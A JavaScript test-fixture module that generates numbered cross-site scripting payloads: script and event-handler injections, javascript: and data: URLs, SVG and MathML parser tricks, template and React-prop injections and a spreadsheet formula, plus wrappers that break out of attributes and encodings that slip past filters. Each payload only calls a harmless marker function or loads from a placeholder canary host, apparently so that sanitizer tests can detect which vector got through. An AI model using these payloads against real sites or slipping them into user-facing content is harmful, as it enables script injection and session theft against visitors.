// Texts that run script or load something if a page ever takes them for markup, style, a URL or an expression. Number N
// calls `ran(N)` or asks the host `canary-N.example`, so that a test knows which one got through.

/** Each vector in its plainest form. */
const vectors = [
  (n) => `<script>ran(${n})</script>`,
  (n) => `<script src=//canary-${n}.example/a.js></script>`,
  (n) => `<script type=module>import'//canary-${n}.example/b.js';ran(${n})</script>`,
  (n) => `<script type=importmap>{"imports":{"a":"//canary-${n}.example/c.js"}}</script>`,
  (n) =>
    `<script type=speculationrules>{"prefetch":[{"urls":["//canary-${n}.example/"]}]}</script>`,
  (n) => `<img src=x onerror=ran(${n})>`,
  (n) => `<img src=//canary-${n}.example/i.png>`,
  (n) => `<img srcset="//canary-${n}.example/j.png 1x">`,
  (n) => `<image href=x onerror=ran(${n})>`,
  (n) => `<picture><source srcset=//canary-${n}.example/k.png><img></picture>`,
  (n) => `<svg onload=ran(${n})>`,
  (n) => `<svg><script>ran(${n})</script></svg>`,
  (n) => `<svg><image href=//canary-${n}.example/l.svg /></svg>`,
  (n) => `<svg><use href=//canary-${n}.example/m.svg#a /></svg>`,
  (n) => `<svg><animate onbegin=ran(${n}) attributeName=x dur=1s>`,
  (n) => `<svg><set onend=ran(${n}) attributeName=x dur=0.01s>`,
  (n) => `<svg><foreignObject><img src=x onerror=ran(${n})></foreignObject></svg>`,
  (n) => `<svg><a href=javascript:ran(${n})><text y=20>x</text></a></svg>`,
  (n) => `<math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(${n})>`,
  (n) => `<math href=javascript:ran(${n})>x</math>`,
  (n) => `<iframe srcdoc="<script>parent.ran(${n})</script>"></iframe>`,
  (n) => `<iframe src=javascript:parent.ran(${n})></iframe>`,
  (n) => `<iframe src=//canary-${n}.example/></iframe>`,
  (n) => `<object data=//canary-${n}.example/n.swf></object>`,
  (n) => `<object data=javascript:ran(${n})></object>`,
  (n) => `<embed src=//canary-${n}.example/o.swf>`,
  (n) => `<frameset onload=ran(${n})><frame src=//canary-${n}.example/></frameset>`,
  (n) => `<video src=x onerror=ran(${n})></video>`,
  (n) => `<video poster=//canary-${n}.example/p.png></video>`,
  (n) => `<video><source onerror=ran(${n}) src=x></video>`,
  (n) => `<audio src=//canary-${n}.example/q.mp3 autoplay></audio>`,
  (n) => `<video><track default src=//canary-${n}.example/r.vtt></video>`,
  (n) => `<details open ontoggle=ran(${n})>x</details>`,
  (n) => `<details><summary onfocus=ran(${n}) autofocus tabindex=1>x</summary></details>`,
  (n) => `<input autofocus onfocus=ran(${n})>`,
  (n) => `<select autofocus onfocus=ran(${n})><option>x</select>`,
  (n) => `<textarea autofocus onfocus=ran(${n})></textarea>`,
  (n) => `<button autofocus onfocus=ran(${n}) popovertarget=x>x</button>`,
  (n) => `<div popover id=x${n} onbeforetoggle=ran(${n})>x</div>`,
  (n) => `<a href=x autofocus tabindex=1 onfocus=ran(${n})>x</a>`,
  (n) => `<a href=javascript:ran(${n}) id=x>x</a>`,
  (n) => `<a href="data:text/html,<script>opener.ran(${n})</script>">x</a>`,
  (n) => `<a ping=//canary-${n}.example/s href=#x>x</a>`,
  (n) => `<area href=javascript:ran(${n}) shape=default>`,
  (n) => `<form action=//canary-${n}.example/t><button>x</button></form>`,
  (n) => `<form><button formaction=javascript:ran(${n})>x</button></form>`,
  (n) => `<form id=f${n}></form><input type=image form=f${n} src=//canary-${n}.example/u.png>`,
  (n) => `<link rel=stylesheet href=//canary-${n}.example/v.css>`,
  (n) => `<link rel=preload as=script href=//canary-${n}.example/w.js>`,
  (n) => `<link rel=prefetch href=//canary-${n}.example/x>`,
  (n) => `<link rel=modulepreload href=//canary-${n}.example/y.js>`,
  (n) => `<link rel=icon href=//canary-${n}.example/z.ico>`,
  (n) => `<style>@import'//canary-${n}.example/a.css';</style>`,
  (n) => `<style>*{background:url(//canary-${n}.example/b.png)}</style>`,
  (n) =>
    `<style>@keyframes k${n}{}</style><b style=animation-name:k${n} onanimationstart=ran(${n})>`,
  (n) => `<b style="background:url(//canary-${n}.example/c.png)">x</b>`,
  (n) => `<table background=//canary-${n}.example/d.png><td>x</table>`,
  (n) => `<body background=//canary-${n}.example/e.png onload=ran(${n}) onpageshow=ran(${n})>`,
  (n) => `<meta http-equiv=refresh content="0;url=//canary-${n}.example/">`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:ran(${n})">`,
  (n) => `<base href=//canary-${n}.example/><img src=f.png>`,
  (n) => `<marquee onstart=ran(${n})>x</marquee>`,
  (n) => `<xss-${n} autofocus tabindex=1 onfocus=ran(${n}) style=display:block>x</xss-${n}>`,
  (n) => `<template shadowrootmode=open><img src=x onerror=ran(${n})></template>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=ran(${n})>">`,
  (n) => `<textarea></textarea><img src=x onerror=ran(${n})>`,
  (n) => `<title></title><img src=x onerror=ran(${n})>`,
  (n) => `<!--><img src=x onerror=ran(${n})>-->`,
  (n) => `<![CDATA[><img src=x onerror=ran(${n})>]]>`,
  (n) =>
    `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">ran(${n})</x:script>`,
  (n) => `javascript:ran(${n})`,
  (n) => `JaVa\tScRiPt:ran(${n})`,
  (n) =>
    `data:text/html;x=canary-${n};base64,${Buffer.from(`<script>ran(${n})</script>`).toString('base64')}`,
  (n) => `vbscript:ran(${n})`,
  (n) => `{{constructor.constructor('ran(${n})')()}}`,
  (n) => '${ran(' + n + ')}',
  (n) => `{"type":"script","props":{"children":"ran(${n})"},"constructor":null}`,
  (n) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=ran(${n})>"}}`,
  (n) => `http://canary-${n}.example/"onmouseover="ran(${n})`,
  (n) => `//canary-${n}.example/path`,
  (n) => `=HYPERLINK("http://canary-${n}.example/";"x")`,
];

/** How a vector is wrapped: to leave the place it is put in, or to get past a filter that looks for the plain form. */
const wrappings = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}<p title='`,
  (text) => `</title></textarea></style></script></bdi>${text}`,
  (text) => text.replace(/<(\w)/g, (_, letter) => `<${letter.toUpperCase()}`),
  (text) => text.replace(/^<(\w+)/, '<$1/x'),
];

/** Characters that accounts and names may not have, but banners and pages do. */
const rough = [
  (text) => `\u0000${text}\u0000`,
  (text) => `\u202E${text}\u202C`,
  (text) => text.replaceAll('<', '\u0008<\u200B'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&#62;'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
];

/** The first ones are each of a different kind, so a few of them already cover all vectors. */
export function payloads(count) {
  const made = [];
  for (const wrap of [...wrappings, ...rough]) {
    for (const vector of vectors) {
      if (made.length === count) return made;
      made.push(wrap(vector(made.length)));
    }
  }
  return made;
}

export const mostPayloads = vectors.length * (wrappings.length + rough.length);
